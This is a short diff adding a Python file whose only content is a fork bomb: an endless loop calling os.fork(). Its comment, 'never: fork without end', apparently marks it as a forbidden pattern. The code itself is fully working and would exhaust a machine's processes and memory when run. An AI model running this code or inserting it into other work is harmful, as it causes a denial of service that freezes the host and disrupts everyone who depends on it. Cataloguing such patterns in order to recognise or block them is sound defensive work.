@@ -1,0 +1,5 @@
+# never: fork without end
+import os
+
+while True:
+    os.fork()
